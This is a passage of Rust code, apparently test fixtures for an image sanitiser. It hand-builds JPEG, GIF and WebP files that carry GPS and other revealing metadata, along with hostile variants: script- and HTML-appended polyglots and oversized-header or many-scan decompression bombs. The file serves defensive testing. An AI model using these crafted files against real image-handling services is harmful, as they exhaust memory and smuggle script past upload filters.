fn segment(marker: u8, payload: &[u8]) -> Vec<u8> {
    let mut segment = vec![0xFF, marker];
    segment.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
    segment.extend_from_slice(payload);
    segment
}

/// Inserts segments right after an encoded JPEG's SOI.
fn jpeg_with(jpeg: Vec<u8>, segments: &[Vec<u8>]) -> Vec<u8> {
    [&jpeg[..2], &segments.concat(), &jpeg[2..]].concat()
}

const DESCRIPTION: &str = "GPS 33.5138 N 36.2765 E, where this was taken";

/// A big-endian TIFF structure as EXIF carries it: IFD0 with a description and the
/// orientation, a GPS IFD (latitude and longitude), and IFD1 pointing at a thumbnail.
fn tiff(orientation: u16, gps: bool, thumbnail: Option<&[u8]>) -> Vec<u8> {
    let description = [DESCRIPTION.as_bytes(), b"\0"].concat();
    let ifd0_entries = 2 + usize::from(gps);
    let gps_at = 8 + 2 + 12 * ifd0_entries + 4;
    let gps_len = if gps { 2 + 12 * 5 + 4 + 48 } else { 0 };
    let ifd1_at = gps_at + gps_len;
    let ifd1_len = if thumbnail.is_some() {
        2 + 12 * 3 + 4
    } else {
        0
    };
    let description_at = ifd1_at + ifd1_len;
    let thumbnail_at = description_at + description.len();

    let mut t = b"MM\0\x2A".to_vec();
    t.extend_from_slice(&8u32.to_be_bytes());
    let entry = |t: &mut Vec<u8>, tag: u16, kind: u16, count: u32, value: u32| {
        t.extend_from_slice(&tag.to_be_bytes());
        t.extend_from_slice(&kind.to_be_bytes());
        t.extend_from_slice(&count.to_be_bytes());
        t.extend_from_slice(&value.to_be_bytes());
    };
    const ASCII: u16 = 2;
    const SHORT: u16 = 3;
    const LONG: u16 = 4;
    const RATIONAL: u16 = 5;
    t.extend_from_slice(&(ifd0_entries as u16).to_be_bytes());
    entry(
        &mut t,
        0x010E,
        ASCII,
        description.len() as u32,
        description_at as u32,
    );
    entry(&mut t, 0x0112, SHORT, 1, u32::from(orientation) << 16);
    if gps {
        entry(&mut t, 0x8825, LONG, 1, gps_at as u32);
    }
    let next = if thumbnail.is_some() { ifd1_at } else { 0 };
    t.extend_from_slice(&(next as u32).to_be_bytes());
    if gps {
        let rationals_at = gps_at + 2 + 12 * 5 + 4;
        t.extend_from_slice(&5u16.to_be_bytes());
        entry(&mut t, 0x0000, 1, 4, 0x0203_0000); // version 2.3.0.0
        entry(&mut t, 0x0001, ASCII, 2, u32::from_be_bytes(*b"N\0\0\0"));
        entry(&mut t, 0x0002, RATIONAL, 3, rationals_at as u32);
        entry(&mut t, 0x0003, ASCII, 2, u32::from_be_bytes(*b"E\0\0\0"));
        entry(&mut t, 0x0004, RATIONAL, 3, rationals_at as u32 + 24);
        t.extend_from_slice(&0u32.to_be_bytes());
        for (n, d) in [(33, 1), (30, 1), (4968, 100), (36, 1), (16, 1), (3540, 100)] {
            t.extend_from_slice(&(n as u32).to_be_bytes());
            t.extend_from_slice(&(d as u32).to_be_bytes());
        }
    }
    if let Some(thumbnail) = thumbnail {
        t.extend_from_slice(&3u16.to_be_bytes());
        entry(&mut t, 0x0103, SHORT, 1, 6 << 16); // JPEG compression
        entry(&mut t, 0x0201, LONG, 1, thumbnail_at as u32);
        entry(&mut t, 0x0202, LONG, 1, thumbnail.len() as u32);
        t.extend_from_slice(&0u32.to_be_bytes());
    }
    assert_eq!(t.len(), description_at);
    t.extend_from_slice(&description);
    if let Some(thumbnail) = thumbnail {
        t.extend_from_slice(thumbnail);
    }
    t
}

fn exif_app1(orientation: u16, gps: bool, thumbnail: Option<&[u8]>) -> Vec<u8> {
    segment(
        0xE1,
        &[b"Exif\0\0", &tiff(orientation, gps, thumbnail)[..]].concat(),
    )
}

fn xmp() -> String {
    concat!(
        r#"<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>"#,
        r#"<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">"#,
        r#"<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="33,30.83N" exif:GPSLongitude="36,16.59E"/>"#,
        r#"</rdf:RDF></x:xmpmeta><?xpacket end="w"?>"#
    )
    .to_string()
}

fn jpeg_exif_gps() -> Vec<u8> {
    jpeg_with(small_jpeg(), &[exif_app1(1, true, None)])
}

fn jpeg_xmp() -> Vec<u8> {
    let payload = [
        b"http://ns.adobe.com/xap/1.0/\0".as_slice(),
        xmp().as_bytes(),
    ]
    .concat();
    jpeg_with(small_jpeg(), &[segment(0xE1, &payload)])
}

fn jpeg_exif_thumbnail() -> Vec<u8> {
    let thumbnail = jpeg_with(
        encode_jpeg(&gradient(16, 12)),
        &[segment(0xFE, b"THUMBNAIL-OF-THE-UNCROPPED-PHOTO")],
    );
    jpeg_with(small_jpeg(), &[exif_app1(1, true, Some(&thumbnail))])
}

fn jpeg_comment() -> Vec<u8> {
    jpeg_with(small_jpeg(), &[segment(0xFE, b"meet at the square at six")])
}

fn jpeg_icc() -> Vec<u8> {
    let mut profile = b"ICC_PROFILE\0\x01\x01".to_vec();
    let mut body = vec![0u8; 128];
    body[36..40].copy_from_slice(b"acsp");
    body.extend_from_slice(b"desc PROFILE-OF-THIS-CAMERA serial 0042-1337");
    let size = body.len() as u32;
    body[..4].copy_from_slice(&size.to_be_bytes());
    profile.extend_from_slice(&body);
    jpeg_with(small_jpeg(), &[segment(0xE2, &profile)])
}

fn jpeg_zip() -> Vec<u8> {
    [small_jpeg(), zip()].concat()
}

fn jpeg_orientation_6() -> Vec<u8> {
    jpeg_with(encode_jpeg(&halves(80, 40)), &[exif_app1(6, false, None)])
}

/// A JPEG whose frame header says 60000×60000.
fn jpeg_flood() -> Vec<u8> {
    let mut jpeg = small_jpeg();
    let sof = jpeg
        .windows(2)
        .position(|w| w == [0xFF, 0xC0])
        .expect("SOF0");
    jpeg[sof + 5..sof + 7].copy_from_slice(&60000u16.to_be_bytes());
    jpeg[sof + 7..sof + 9].copy_from_slice(&60000u16.to_be_bytes());
    jpeg
}

/// A progressive JPEG, three components at full resolution, whose only scan holds the DC
/// coefficients, all zero (one bit a block): a few hundred KB that make a decoder keep
/// every coefficient of the picture.
fn progressive_jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut jpeg = vec![0xFF, 0xD8];
    jpeg.extend_from_slice(&segment(0xDB, &[[0u8].as_slice(), &[1; 64]].concat()));
    let mut sof = vec![8];
    sof.extend_from_slice(&height.to_be_bytes());
    sof.extend_from_slice(&width.to_be_bytes());
    sof.push(3);
    for id in 1..=3 {
        sof.extend_from_slice(&[id, 0x11, 0]);
    }
    jpeg.extend_from_slice(&segment(0xC2, &sof));
    // DC table 0: one code of one bit, for the category 0 (a zero difference).
    let mut dht = vec![0x00, 1];
    dht.extend_from_slice(&[0; 15]);
    dht.push(0);
    jpeg.extend_from_slice(&segment(0xC4, &dht));
    let sos = [3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, 0];
    jpeg.extend_from_slice(&segment(0xDA, &sos));
    let blocks = (usize::from(width).div_ceil(8)) * (usize::from(height).div_ceil(8)) * 3;
    jpeg.extend(std::iter::repeat_n(0u8, blocks.div_ceil(8)));
    jpeg.extend_from_slice(&[0xFF, 0xD9]);
    jpeg
}

/// `progressive_jpeg`, then `ac_scans` scans of the first component's AC coefficients, each
/// a few runs of empty blocks (EOBRUN): 17 bytes that make a decoder visit every block again.
fn progressive_jpeg_scans(width: u16, height: u16, ac_scans: usize) -> Vec<u8> {
    let mut jpeg = progressive_jpeg(width, height);
    jpeg.truncate(jpeg.len() - 2);
    // AC table 0: "00" is EOB14 (a run of 2^14 + 14 bits), "01" is EOB3 (2^3 + 3 bits).
    let mut dht = vec![0x10, 0, 2];
    dht.extend_from_slice(&[0; 14]);
    dht.extend_from_slice(&[0xE0, 0x30]);
    jpeg.extend_from_slice(&segment(0xC4, &dht));
    let blocks = usize::from(width).div_ceil(8) * usize::from(height).div_ceil(8);
    /// Entropy-coded bits, most significant first, with a zero after each 0xFF byte.
    #[derive(Default)]
    struct Scan {
        bytes: Vec<u8>,
        acc: u32,
        len: u32,
    }
    impl Scan {
        fn put(&mut self, value: u32, bits: u32) {
            self.acc = (self.acc << bits) | value;
            self.len += bits;
            while self.len >= 8 {
                let byte = (self.acc >> (self.len - 8)) as u8;
                self.bytes.push(byte);
                if byte == 0xFF {
                    self.bytes.push(0);
                }
                self.len -= 8;
            }
            self.acc &= (1 << self.len) - 1;
        }
        /// Pads the last byte with ones, as the standard asks.
        fn finish(mut self) -> Vec<u8> {
            if self.len > 0 {
                let pad = 8 - self.len;
                self.put((1 << pad) - 1, pad);
            }
            self.bytes
        }
    }
    let mut scan = Scan::default();
    let mut left = blocks;
    while left > 0 {
        if left >= 1 << 14 {
            let run = left.min(32767);
            scan.put(0b00, 2);
            scan.put((run - (1 << 14)) as u32, 14);
            left -= run;
        } else {
            assert!((8..16).contains(&left), "runs this test does not write");
            scan.put(0b01, 2);
            scan.put((left - 8) as u32, 3);
            left = 0;
        }
    }
    let scan = scan.finish();
    for _ in 0..ac_scans {
        jpeg.extend_from_slice(&segment(0xDA, &[1, 1, 0x00, 1, 63, 0]));
        jpeg.extend_from_slice(&scan);
    }
    jpeg.extend_from_slice(&[0xFF, 0xD9]);
    jpeg
}

// ---------------------------------------------------------------------------------------------
// GIF by hand.

/// LZW data that never grows its code width: a clear code every 254 codes.
fn lzw(pixels: &[u8]) -> Vec<u8> {
    const MIN: u8 = 8;
    const CLEAR: u32 = 1 << MIN;
    let mut codes = vec![CLEAR];
    for (i, &p) in pixels.iter().enumerate() {
        if i > 0 && i % (CLEAR as usize - 2) == 0 {
            codes.push(CLEAR);
        }
        codes.push(u32::from(p));
    }
    codes.push(CLEAR + 1);
    let (mut bytes, mut acc, mut len) = (Vec::new(), 0u64, 0);
    for code in codes {
        acc |= u64::from(code) << len;
        len += u32::from(MIN) + 1;
        while len >= 8 {
            bytes.push(acc as u8);
            acc >>= 8;
            len -= 8;
        }
    }
    if len > 0 {
        bytes.push(acc as u8);
    }
    let mut out = vec![MIN];
    out.extend_from_slice(&sub_blocks(&bytes));
    out
}

fn sub_blocks(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for block in data.chunks(255) {
        out.push(block.len() as u8);
        out.extend_from_slice(block);
    }
    out.push(0);
    out
}

/// A GIF: screen size, a four-colour palette (black, white, red, blue), then `body`.
fn gif_of(width: u16, height: u16, body: &[Vec<u8>]) -> Vec<u8> {
    let mut gif = b"GIF89a".to_vec();
    gif.extend_from_slice(&width.to_le_bytes());
    gif.extend_from_slice(&height.to_le_bytes());
    gif.extend_from_slice(&[0x81, 0, 0]);
    gif.extend_from_slice(&[0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0, 255]);
    for block in body {
        gif.extend_from_slice(block);
    }
    gif.push(0x3B);
    gif
}

fn gif_frame(left: u16, top: u16, width: u16, height: u16, pixels: &[u8]) -> Vec<u8> {
    let mut frame = vec![0x2C];
    for v in [left, top, width, height] {
        frame.extend_from_slice(&v.to_le_bytes());
    }
    frame.push(0);
    frame.extend_from_slice(&lzw(pixels));
    frame
}

fn small_gif() -> Vec<u8> {
    let pixels: Vec<u8> = (0..256).map(|i| (i % 4) as u8).collect();
    gif_of(16, 16, &[gif_frame(0, 0, 16, 16, &pixels)])
}

fn gif_offset_frame() -> Vec<u8> {
    gif_of(32, 32, &[gif_frame(8, 8, 16, 16, &[2; 256])])
}

fn gif_flood() -> Vec<u8> {
    gif_of(60000, 60000, &[gif_frame(0, 0, 1, 1, &[1])])
}

fn gif_frame_flood() -> Vec<u8> {
    gif_of(16, 16, &[gif_frame(0, 0, 60000, 60000, &[1; 64])])
}

fn gif_script() -> Vec<u8> {
    [small_gif(), b"<script>alert(1)</script>".to_vec()].concat()
}

fn gif_comment() -> Vec<u8> {
    let mut comment = vec![0x21, 0xFE];
    comment.extend_from_slice(&sub_blocks(b"meet at the square at six"));
    let pixels = [2u8; 256];
    gif_of(16, 16, &[comment, gif_frame(0, 0, 16, 16, &pixels)])
}

fn gif_xmp() -> Vec<u8> {
    let mut xmp_ext = vec![0x21, 0xFF, 11];
    xmp_ext.extend_from_slice(b"XMP DataXMP");
    xmp_ext.extend_from_slice(&sub_blocks(xmp().as_bytes()));
    gif_of(16, 16, &[xmp_ext, gif_frame(0, 0, 16, 16, &[3u8; 256])])
}

/// 2000 frames, the first red, the others white.
fn gif_animated() -> Vec<u8> {
    let mut body = Vec::new();
    let mut netscape = vec![0x21, 0xFF, 11];
    netscape.extend_from_slice(b"NETSCAPE2.0");
    netscape.extend_from_slice(&[3, 1, 0, 0, 0]);
    body.push(netscape);
    for i in 0..2000 {
        body.push(vec![0x21, 0xF9, 4, 0, 2, 0, 0, 0]);
        let colour = if i == 0 { 2 } else { 1 };
        body.push(gif_frame(0, 0, 16, 16, &[colour; 256]));
    }
    gif_of(16, 16, &body)
}

// ---------------------------------------------------------------------------------------------
// WebP by hand: the image crate's lossless bitstream, in a RIFF container of our making.

fn riff_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = kind.to_vec();
    chunk.extend_from_slice(&(data.len() as u32).to_le_bytes());
    chunk.extend_from_slice(data);
    if data.len() % 2 == 1 {
        chunk.push(0);
    }
    chunk
}

fn webp_of(chunks: &[Vec<u8>]) -> Vec<u8> {
    let body = chunks.concat();
    let mut webp = b"RIFF".to_vec();
    webp.extend_from_slice(&((body.len() + 4) as u32).to_le_bytes());
    webp.extend_from_slice(b"WEBP");
    webp.extend_from_slice(&body);
    webp
}

/// The VP8L chunk of an encoded lossless WebP.
fn vp8l_chunk(webp: &[u8]) -> Vec<u8> {
    assert_eq!(&webp[12..16], b"VP8L");
    webp[12..].to_vec()
}

fn vp8x(flags: u8, width: u32, height: u32) -> Vec<u8> {
    let mut data = vec![flags, 0, 0, 0];
    data.extend_from_slice(&(width - 1).to_le_bytes()[..3]);
    data.extend_from_slice(&(height - 1).to_le_bytes()[..3]);
    riff_chunk(b"VP8X", &data)
}

const VP8X_ICC: u8 = 0x20;
const VP8X_ALPHA: u8 = 0x10;
const VP8X_EXIF: u8 = 0x08;
const VP8X_XMP: u8 = 0x04;

fn webp_metadata() -> Vec<u8> {
    let image = small_webp();
    webp_of(&[
        vp8x(VP8X_ICC | VP8X_ALPHA | VP8X_EXIF | VP8X_XMP, 64, 48),
        riff_chunk(b"ICCP", b"PROFILE-OF-THIS-CAMERA"),
        vp8l_chunk(&image),
        riff_chunk(b"EXIF", &tiff(1, true, None)),
        riff_chunk(b"XMP ", xmp().as_bytes()),
    ])
}

fn webp_orientation_8() -> Vec<u8> {
    let image = encode_webp(&DynamicImage::ImageRgb8(halves(80, 40)).to_rgba8());
    webp_of(&[
        vp8x(VP8X_ALPHA | VP8X_EXIF, 80, 40),
        vp8l_chunk(&image),
        riff_chunk(b"EXIF", &tiff(8, false, None)),
    ])
}

fn webp_html() -> Vec<u8> {
    [small_webp(), html()].concat()
}

fn webp_canvas_flood() -> Vec<u8> {
    webp_of(&[
        vp8x(VP8X_ALPHA, 100_000, 100_000),
        vp8l_chunk(&small_webp()),
    ])
}

/// A lossless WebP whose header says 16384×16384 (the format's largest).
fn webp_lossless_flood() -> Vec<u8> {
    let mut webp = small_webp();
    // Signature 0x2F, then 14 bits of width - 1 and 14 bits of height - 1.
    let at = 21;
    assert_eq!(webp[at - 1], 0x2F);
    let header = u32::from_le_bytes(webp[at..at + 4].try_into().unwrap());
    let header = (header & !0x0FFF_FFFF) | 0x3FFF | (0x3FFF << 14);
    webp[at..at + 4].copy_from_slice(&header.to_le_bytes());
    webp
}

/// A lossless WebP of one colour whose pixels take no bits at all: each of the five prefix
/// codes is a "simple" code of a single symbol, so the whole picture is its header.
fn webp_lossless_blank(width: u32, height: u32, alpha: bool) -> Vec<u8> {
    let mut bits: Vec<(u32, u32)> = vec![
        (width - 1, 14),
        (height - 1, 14),
        (u32::from(alpha), 1),
        (0, 3), // version
        (0, 1), // no transform
        (0, 1), // no colour cache
        (0, 1), // no meta prefix codes
    ];
    // Green, red, blue, alpha, distance: simple, one symbol, 8-bit symbol.
    for symbol in [0, 0, 200, 255, 0] {
        bits.extend_from_slice(&[(1, 1), (0, 1), (1, 1), (symbol, 8)]);
    }
    let (mut data, mut acc, mut len) = (vec![0x2F], 0u64, 0);
    for (value, count) in bits {
        acc |= u64::from(value) << len;
        len += count;
        while len >= 8 {
            data.push(acc as u8);
            acc >>= 8;
            len -= 8;
        }
    }
    if len > 0 {
        data.push(acc as u8);
    }
    webp_of(&[riff_chunk(b"VP8L", &data)])
}

/// A lossy WebP whose key frame header says 16383×16383, and no picture after it.
fn webp_lossy_flood() -> Vec<u8> {
    let mut frame = vec![0x10, 0x02, 0x00, 0x9D, 0x01, 0x2A];
    frame.extend_from_slice(&0x3FFFu16.to_le_bytes());
    frame.extend_from_slice(&0x3FFFu16.to_le_bytes());
    frame.extend_from_slice(&[0; 32]);
    webp_of(&[riff_chunk(b"VP8 ", &frame)])
}

fn webp_exif_claims_4_gib() -> Vec<u8> {
    let mut webp = webp_of(&[
        vp8x(VP8X_ALPHA | VP8X_EXIF, 64, 48),
        vp8l_chunk(&small_webp()),
    ]);
    webp.extend_from_slice(b"EXIF");
    webp.extend_from_slice(&0xFFFF_FFF0u32.to_le_bytes());
    webp.extend_from_slice(b"Exif\0\0MM\0\x2A");
    let riff = (webp.len() - 8) as u32;
    webp[4..8].copy_from_slice(&riff.to_le_bytes());
    webp
}
